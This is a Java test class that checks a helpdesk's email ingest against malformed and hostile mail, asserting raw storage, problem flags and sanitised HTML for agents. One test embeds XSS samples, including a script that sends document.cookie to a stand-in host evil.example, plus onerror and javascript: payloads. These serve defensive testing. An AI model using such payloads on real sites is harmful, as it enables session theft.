package org.loyaldesk.channel.email;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.loyaldesk.Api;
import org.loyaldesk.Browser;
import org.loyaldesk.LoyaldeskTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * Mail built to break things, through the MTA pipe: each is stored byte for byte, flagged where it
 * is damaged, shown to agents, and nothing of it runs in an agent's browser.
 */
@LoyaldeskTest
class HostileMailIngestTests {

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    Api api;

    @BeforeEach
    void setUp() {
        api = new Api(port);
    }

    @Test
    void aTruncatedMultipartIsStoredWholeAndFlagged() {
        byte[] raw = ("From: a@voorbeeld.nl\r\nSubject: afgebroken\r\nMessage-ID: <" + UUID.randomUUID() + "@x>\r\n"
            + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n"
            + "Content-Type: text/plain\r\n\r\nHet begin van mijn vraag, en dan").getBytes(StandardCharsets.UTF_8);

        long mail = filed(raw);

        assertThat(flags(mail)).contains("problems");
        assertThat(rawOf(mail)).isEqualTo(raw);
        assertThat(bodyOf(mail)).contains("Het begin van mijn vraag");
    }

    @Test
    void aNulInTheContentTypeHeaderIsFiledAndFlaggedOnEveryDatabase() {
        byte[] raw = ("From: c@voorbeeld.nl\r\nSubject: nul\u0000byte\r\nMessage-ID: <" + UUID.randomUUID() + "@x>\r\n"
            + "Content-Type: text/plain\u0000; charset=utf-8\r\n\r\nMijn factuur klopt niet.").getBytes(StandardCharsets.UTF_8);

        long mail = filed(raw);

        assertThat(rawOf(mail)).isEqualTo(raw);
        assertThat(flags(mail)).contains("problems");
        assertThat(problemsOf(mail)).contains("UNSTORABLE_TEXT");
    }

    @Test
    void aNulInAnAttachmentsNameAndTypeIsRemovedAndTheMailFiled() {
        byte[] raw = ("From: d@voorbeeld.nl\r\nSubject: bijlage\r\nMessage-ID: <" + UUID.randomUUID() + "@x>\r\n"
            + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
            + "--b\r\nContent-Type: text/plain\r\n\r\nZie de bijlage.\r\n"
            + "--b\r\nContent-Type: application/pdf\u0000x\r\nContent-Disposition: attachment; filename=\"fac\u0000tuur.pdf\"\r\n"
            + "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n").getBytes(StandardCharsets.UTF_8);

        long mail = filed(raw);

        assertThat(rawOf(mail)).isEqualTo(raw);
        assertThat(bodyOf(mail)).contains("Zie de bijlage.");
        assertThat(jdbc.sql("SELECT file_name FROM channel_mail_attachment WHERE mail_id = ?").param(mail)
            .query(String.class).single()).isEqualTo("factuur.pdf");
        assertThat(problemsOf(mail)).contains("UNSTORABLE_TEXT");
    }

    @Test
    void aBoundaryThatNeverComesAndAnUnknownCharsetStillGiveText() {
        byte[] raw = ("From: b@voorbeeld.nl\r\nSubject: =?x-unknown?Q?vreemd?=\r\nMessage-ID: <" + UUID.randomUUID() + "@x>\r\n"
            + "Content-Type: multipart/alternative; boundary=\"nooit\"\r\n\r\n"
            + "Content-Type: text/plain; charset=klingon\r\n\r\nMijn pakket is kapot aangekomen.").getBytes(StandardCharsets.UTF_8);

        long mail = filed(raw);

        assertThat(flags(mail)).containsAnyOf("problems", "unparseable");
        assertThat(bodyOf(mail)).contains("Mijn pakket is kapot aangekomen");
    }

    @Test
    void aTenMegabyteHeaderAndAThousandNestedPartsAreStoredWithoutHarm() {
        byte[] bigHeader = ("From: c@voorbeeld.nl\r\nX-Junk: " + "j".repeat(10 * 1024 * 1024) + "\r\nSubject: groot\r\n\r\nKlein bericht.")
            .getBytes(StandardCharsets.UTF_8);
        StringBuilder nested = new StringBuilder("From: d@voorbeeld.nl\r\nSubject: diep\r\nContent-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n");
        for (int depth = 0; depth < 1000; depth++) {
            nested.append("--b").append(depth).append("\r\nContent-Type: multipart/mixed; boundary=\"b").append(depth + 1)
                .append("\"\r\n\r\n");
        }
        nested.append("--b1000\r\nContent-Type: text/plain\r\n\r\nHelemaal onderin.\r\n");

        long first = filed(bigHeader);
        long second = filed(nested.toString().getBytes(StandardCharsets.UTF_8));

        assertThat(rawOf(first)).isEqualTo(bigHeader);
        assertThat(flags(second)).containsAnyOf("problems", "unparseable");
        assertThat(rawOf(second)).hasSize(nested.length());
    }

    @Test
    void scriptsAndJavascriptLinksNeverReachTheAgentsBrowser() {
        String agent = "agent-" + UUID.randomUUID() + "@loyaldesk.test";
        api.post("/api/v1/agents", Map.of("email", agent, "name", "Agent", "password", "correct-horse-battery",
            "role", "AGENT"));
        byte[] raw = ("From: e@voorbeeld.nl\r\nSubject: <script>alert('onderwerp')</script>\r\nMessage-ID: <" + UUID.randomUUID()
            + "@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n"
            + "<p onclick=\"steal()\">Hallo</p><script>document.location='http://evil.example/'+document.cookie</script>"
            + "<a href=\"javascript:alert(1)\">klik</a><img src=x onerror=\"alert(2)\"><iframe src=\"http://evil.example\"></iframe>")
            .getBytes(StandardCharsets.UTF_8);
        Api.Response filed = api.postMail(raw);
        long mail = filed.id("mailId");

        Browser browser = new Browser(port);
        browser.logIn(agent, "correct-horse-battery");
        Browser.Page page = browser.get("/conversations/" + filed.id("conversationId"));
        Browser.Page html = browser.get("/mail/" + mail + "/html");

        assertThat(page.status()).isEqualTo(200);
        assertThat(page.html()).doesNotContain("<script>alert").contains("&lt;script&gt;alert(&#39;onderwerp&#39;)");
        assertThat(html.html()).contains("Hallo").doesNotContain("<script", "onclick", "onerror", "javascript:", "<iframe");
        assertThat(rawOf(mail)).isEqualTo(raw);
    }

    @Test
    void aTrackingPixelNeverLearnsThatTheMailWasRead() {
        String agent = "agent-" + UUID.randomUUID() + "@loyaldesk.test";
        api.post("/api/v1/agents", Map.of("email", agent, "name", "Agent", "password", "correct-horse-battery",
            "role", "AGENT"));
        byte[] raw = ("From: nieuwsbrief@voorbeeld.nl\r\nSubject: Uw bestelling\r\nMessage-ID: <" + UUID.randomUUID()
            + "@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n"
            + "<html><head><base href=\"https://tracker.example/\"></head><body><p>Uw pakket is onderweg.</p>"
            + "<img src=\"https://tracker.example/open.gif?id=4711\" width=\"1\" height=\"1\">"
            + "<img src=\"//cdn.tracker.example/logo.png\" alt=\"Logo Webshop\"><img src=\"pixel.gif\">"
            + "<img src=\"cid:logo@shop\"></body></html>").getBytes(StandardCharsets.UTF_8);
        long mail = filed(raw);

        Browser browser = new Browser(port);
        browser.logIn(agent, "correct-horse-battery");
        String html = browser.get("/mail/" + mail + "/html").html();

        assertThat(html).contains("Uw pakket is onderweg.", "src=\"cid:logo@shop\"", "alt=\"Logo Webshop\"",
            "3 image(s) from elsewhere are not shown");
        assertThat(html).doesNotContainPattern("\\ssrc=\"(https?:)?//").doesNotContain("<base", "src=\"pixel.gif\"");
        assertThat(browser.get("/mail/" + mail + "/html?lang=nl").html()).contains("3 afbeelding(en) van elders");
        assertThat(rawOf(mail)).isEqualTo(raw);
    }

    private long filed(byte[] raw) {
        Api.Response response = api.postMail(raw);
        assertThat(response.status()).as(response.toString()).isEqualTo(202);
        return response.id("mailId");
    }

    private String flags(long mail) {
        return jdbc.sql("SELECT flags FROM channel_mail WHERE id = ?").param(mail).query(String.class).single();
    }

    private String problemsOf(long mail) {
        return jdbc.sql("SELECT problems FROM channel_mail WHERE id = ?").param(mail).query(String.class).single();
    }

    private String bodyOf(long mail) {
        return jdbc.sql("SELECT m.body FROM conversation_message m JOIN channel_mail c ON c.message_id = m.id WHERE c.id = ?")
            .param(mail).query(String.class).single();
    }

    private byte[] rawOf(long mail) {
        long message = jdbc.sql("SELECT message_id FROM channel_mail WHERE id = ?").param(mail).query(Long.class).single();
        return api.getBytes("/api/v1/messages/" + message + "/raw");
    }
}
